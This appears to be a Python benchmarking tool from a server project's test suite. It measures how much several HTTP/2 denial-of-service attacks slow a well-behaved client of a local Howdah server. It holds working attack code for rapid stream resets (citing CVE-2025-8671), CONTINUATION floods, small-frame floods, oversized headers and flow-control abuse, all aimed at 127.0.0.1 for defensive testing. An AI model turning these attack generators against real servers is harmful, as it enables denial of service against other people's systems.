#!/usr/bin/env python3
"""A well-behaved client beside a hostile connection of HTTP/2: the part of its delay that the server causes.

One connection at a time carries out a known attack on servers of HTTP/2, as fast as it is let, and comes
back as soon as it is cut off. Meanwhile another client asks for a small file at a fixed rate over kept
connections, and counts from the moment at which it should have asked.

The attacker's own work delays that client too, as they share the processors. So the same attack, with no
more connections a second, goes in turn to Howdah and to a sink, another process that greets as a server
of HTTP/2 does, drops the bytes that come and cuts floods off; the client asks Howdah both times. Told are its
medians of p50 and p99 beside both, their ratios, how far apart its p99s were beside the sink alone,
the processor time of the router, by how much its memory grows at most, and how many connections and
bytes the attack took. Without an attack, the ratios show the effect of chance. None of the attacks
needs answers; a server that sends answers, and whose client takes them, has that work as well.

    tests/tools/hostile_http2.py [--howdah PROGRAM] [--rounds 5] [--seconds 2] [--only NAME...]
"""

import argparse
import itertools
import json
import os
import pathlib
import select
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request

sys.path.append(str(pathlib.Path(__file__).resolve().parents[1]))
from peers import free_port  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[2]
# Requests a second of the client that is watched, and its connections: some on each thread.
RATE, CONNECTIONS = 200, 6
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)


# -- frames --

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def length(count):
    """The length of a string in HPACK."""
    if count < 127:
        return bytes([count])
    rest, found = count - 127, bytearray([127])
    while rest >= 128:
        found.append(rest % 128 | 0x80)
        rest //= 128
    return bytes([*found, rest])


def literal(name, value, first=0):
    return bytes([first]) + length(len(name)) + name + length(len(value)) + value


def request(method, path, *fields):
    pairs = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"), *fields]
    return b"".join(literal(name, value) for name, value in pairs)


def hello(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings)


GET, POST = request(b"GET", b"/small.txt"), request(b"POST", b"/small.txt")
LARGE = request(b"GET", b"/large.bin")
ASK = END_STREAM | END_HEADERS
SHORT = request(b"POST", b"/small.txt", (b"content-length", b"1"))
# Frames that make a server reset a stream (CVE-2025-8671).
PROVOCATIONS = (
    lambda s: frame(HEADERS, ASK, s, GET) + frame(WINDOW_UPDATE, 0, s, bytes(4)),
    lambda s: frame(HEADERS, ASK, s, GET) + 2 * frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"),
    lambda s: frame(HEADERS, ASK, s, GET) + frame(DATA, END_STREAM, s, b"x"),
    lambda s: 2 * frame(HEADERS, ASK, s, GET),
    lambda s: frame(HEADERS, ASK, s, GET) + frame(PRIORITY, 0, s, bytes(4)),
    lambda s: frame(HEADERS, END_HEADERS, s, SHORT) + frame(DATA, END_STREAM, s, b"too long"),
)
REFERENCES = literal(b"x", b"v" * 3900, 0x40)
CRUMB = bytes([0x40 | 32, 1]) + b"c"
# SETTINGS_INITIAL_WINDOW_SIZE
SHUT, OPEN = struct.pack(">HI", 4, 0), struct.pack(">HI", 4, 1 << 30)


def streams(make):
    """Frames for one stream after the other, many at a time."""
    for first in itertools.count(1, 512):
        yield b"".join(make(stream) for stream in range(first, first + 512, 2))


def once(*parts):
    """Frames, and then silence."""
    yield b"".join(parts)


def flood(one, before=b""):
    """The same again and again."""
    if before:
        yield before
    many = one * (65536 // len(one))
    while True:
        yield many


NOBODY = "nobody"
# The first bytes of a connection, the bytes that follow, and whether it reads responses; connections take turns.
ATTACKS = {
    "resets": [(b"", lambda: streams(lambda s: frame(HEADERS, ASK, s, GET) + frame(RST_STREAM, 0, s, CANCEL)), True),
               *((b"", lambda one=one: streams(one), True) for one in PROVOCATIONS)],
    "endless-heads": [
        (b"", lambda: flood(frame(CONTINUATION, 0, 1, literal(b"x", b"v" * 16000)), frame(HEADERS, 0, 1, GET)), True),
        (b"", lambda: flood(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, GET)), True)],
    "small-frames": [
        (b"", lambda: flood(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST)), True),
        (b"", lambda: flood(frame(PING, 0, 0, bytes(8))), True),
        (b"", lambda: flood(frame(SETTINGS, 0, 0)), True),
        (b"", lambda: flood(frame(PRIORITY, 0, 3, b"\0\0\0\x01\x05")), True),
        (b"", lambda: flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")), True)],
    "unread-answers": [(b"", lambda: flood(frame(PING, 0, 0, bytes(8))), False),
                       (b"", lambda: flood(frame(SETTINGS, 0, 0)), False)],
    "large-heads": [
        (b"", lambda: itertools.chain(
            once(frame(HEADERS, ASK, 1, GET + REFERENCES)),
            (part for part in streams(lambda s: frame(HEADERS, ASK, s + 2, GET + b"\xbe" * 8000)))), True),
        (b"", lambda: streams(lambda s: frame(HEADERS, ASK, s, GET + CRUMB + b"\xbe" * 8000)), True)],
    "windows-shut": [(SHUT, lambda: once(*(frame(HEADERS, ASK, s, LARGE) for s in range(1, 200, 2))), True)],
    "unread-files": [(OPEN, lambda: once(frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\0\0"),
                                         *(frame(HEADERS, ASK, s, LARGE) for s in range(1, 200, 2))), False)],
}


# -- the hostile one --

def attack(name, port, seconds, rate):
    """Continues until its time is over, with at most so many connections a second. Prints how many it had a second,
    and how many bytes were taken."""
    begun, taken, number = time.monotonic(), 0, 0
    end = begun + seconds
    for number in itertools.count():
        time.sleep(max(min(begun + number / rate, end) - time.monotonic(), 0))
        settings, frames, reads = ATTACKS[name][number % len(ATTACKS[name])]
        left = end - time.monotonic()
        if left <= 0:
            break
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=left) as connection:
                connection.setblocking(False)
                taken += talk(connection, itertools.chain((hello(settings),), frames()), reads, end)
        except OSError:
            pass
    print(json.dumps({"rate": number / seconds, "taken": taken / seconds}))


def talk(connection, parts, reads, end):
    """Sends all that is taken, until the connection or the time is over."""
    waiting, taken = b"", 0
    while (left := end - time.monotonic()) > 0:
        if not waiting:
            waiting = memoryview(next(parts, b""))
        readable, writable, _ = select.select([connection] if reads else [], [connection] if waiting else [], [], left)
        try:
            if readable and not connection.recv(1 << 20):
                break
            if writable:
                sent = connection.send(waiting)
                waiting, taken = waiting[sent:], taken + sent
        except BlockingIOError:
            pass
        except OSError:
            break
    return taken


# -- the inert one --

def sink():
    """Greets, drops the bytes that come, and cuts floods off after less than Howdah reads of most."""
    room = bytearray(16 << 10)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        print(listener.getsockname()[1], flush=True)
        while True:
            connection, _ = listener.accept()
            with connection:
                try:
                    connection.sendall(frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
                    left = len(room)
                    while left > 0 and (count := connection.recv_into(room)):
                        left -= count
                except OSError:
                    pass


# -- the well-behaved one --

def watch(port, seconds):
    """Asks at a fixed rate; prints how long each answer took from when it was due."""
    if os.geteuid() == 0:
        os.nice(-15)  # it is not this client that is measured
    kept = [socket.create_connection(("127.0.0.1", port), timeout=30) for _ in range(CONNECTIONS)]
    for connection in kept:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    took, begun = [], time.monotonic()
    for number in range(round(RATE * seconds)):
        due = begun + number / RATE
        time.sleep(max(due - time.monotonic(), 0))
        connection = kept[number % CONNECTIONS]
        connection.sendall(b"GET /small.txt HTTP/1.1\r\nHost: a\r\n\r\n")
        answer = b""
        while not answer.endswith(b"Hello, world!"):
            piece = connection.recv(4096)
            if not piece or not answer.startswith(b"HTTP/1.1 200"[:len(answer)]):
                sys.exit(f"no answer but {answer + piece!r}")
            answer += piece
        took.append(time.monotonic() - due)
    print(json.dumps(took))


# -- the server --

class Howdah:
    def __init__(self, program, directory):
        site = directory / "site"
        site.mkdir()
        (site / "small.txt").write_text("Hello, world!")
        (site / "large.bin").write_bytes(b"x" * (3 << 20))
        self.port = free_port()
        document = {"listeners": {f"127.0.0.1:{self.port}": {"pass": "routes", "http2": True}},
                    "routes": [{"action": {"share": f"{site}$uri"}}]}
        (directory / "howdah.json").write_text(json.dumps(document))
        self.log = open(directory / "howdah.log", "wb")
        self.process = subprocess.Popen([program, "serve", "--config", directory / "howdah.json", "--control",
                                         f"unix:{directory}/control"], stdout=self.log, stderr=self.log)
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{self.port}/small.txt", timeout=10).close()
                break
            except OSError:
                if time.monotonic() > deadline or self.process.poll() is not None:
                    sys.exit(f"Howdah does not start:\n{(directory / 'howdah.log').read_text()}")
                time.sleep(0.05)
        children = pathlib.Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()
        self.router = next(pathlib.Path(f"/proc/{child}") for child in children
                           if b"router" in pathlib.Path(f"/proc/{child}/cmdline").read_bytes())

    def memory(self, kind):
        """Bytes: `VmRSS` now, `VmHWM` at most since `forget`."""
        found = next(line for line in (self.router / "status").read_text().splitlines() if line.startswith(kind))
        return int(found.split()[1]) * 1024

    def forget(self):
        (self.router / "clear_refs").write_text("5")

    def processor_time(self):
        fields = (self.router / "stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self):
        self.process.terminate()
        self.process.wait(30)
        self.log.close()


def start(*arguments):
    return subprocess.Popen([sys.executable, __file__, *map(str, arguments)], stdout=subprocess.PIPE)


def measure(server, port, name, seconds, rate):
    """One round with one kind of company, that attacks the server on this port."""
    server.forget()
    memory, cpu = server.memory("VmRSS"), server.processor_time()
    other = start("--attack", name, port, seconds + 0.5, rate) if name != NOBODY else None
    time.sleep(0.3)
    took = sorted(json.loads(start("--watch", server.port, seconds).communicate(timeout=120)[0]))
    found = {"p50": took[len(took) // 2] * 1e3, "p99": took[len(took) * 99 // 100] * 1e3}
    said = json.loads(other.communicate(timeout=120)[0]) if other else {"rate": 0, "taken": 0}
    return {**found, **said, "memory": server.memory("VmHWM") - memory,
            "cpu": (server.processor_time() - cpu) / (seconds + 0.5)}


def compare(server, sink_port, name, options):
    """Rounds with the sink and with Howdah attacked, in turn. A line of the table."""
    at_will = 1e9
    rate = at_will if name == NOBODY else measure(server, server.port, name, 1, at_will)["rate"]
    targets, found = {"sink": sink_port, "howdah": server.port}, {"sink": [], "howdah": []}
    for number in range(options.rounds):
        for target in sorted(targets, reverse=number % 2 == 0):
            found[target].append(measure(server, targets[target], name, options.seconds, rate))

    def of(target, what):
        return statistics.median(one[what] for one in found[target])
    columns = [name]
    for what in ("p50", "p99"):
        sink_s, howdah_s = of("sink", what), of("howdah", what)
        columns += [f"{sink_s:.2f}", f"{howdah_s:.2f}", f"{howdah_s / sink_s:.2f}"]
    alone = [one["p99"] / of("sink", "p99") for one in found["sink"]]
    columns += [f"{min(alone):.2f}–{max(alone):.2f}", f"{of('howdah', 'cpu'):.2f}",
                f"{max(one['memory'] for one in found['howdah']) / 2**20:.1f}",
                " / ".join(f"{of(target, 'rate'):.0f}" for target in targets),
                " / ".join(f"{of(target, 'taken') / 1e6:.1f}" for target in targets)]
    return columns


COLUMNS = ["attack", "p50 ms, sink", "Howdah", "ratio", "p99 ms, sink", "Howdah", "ratio", "sink alone",
           "of a processor", "memory, MiB", "connections/s", "MB/s"]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--howdah", default=ROOT / "target/release/howdah")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--only", nargs="+", choices=[NOBODY, *ATTACKS], default=[NOBODY, *ATTACKS])
    parser.add_argument("--attack", nargs=4, help=argparse.SUPPRESS)
    parser.add_argument("--watch", nargs=2, help=argparse.SUPPRESS)
    parser.add_argument("--sink", action="store_true", help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.attack:
        name, port, seconds, rate = options.attack
        return attack(name, int(port), float(seconds), float(rate))
    if options.watch:
        return watch(int(options.watch[0]), float(options.watch[1]))
    if options.sink:
        return sink()
    print(f"| {' | '.join(COLUMNS)} |\n| --- |{' ---: |' * (len(COLUMNS) - 1)}")
    with tempfile.TemporaryDirectory() as directory:
        os.chmod(directory, 0o755)
        inert, server = start("--sink"), Howdah(options.howdah, pathlib.Path(directory))
        try:
            port = int(inert.stdout.readline())
            for name in options.only:
                print(f"| {' | '.join(compare(server, port, name, options))} |", flush=True)
        finally:
            server.stop()
            inert.kill()
            inert.wait()
    return 0


if __name__ == "__main__":
    sys.exit(main())
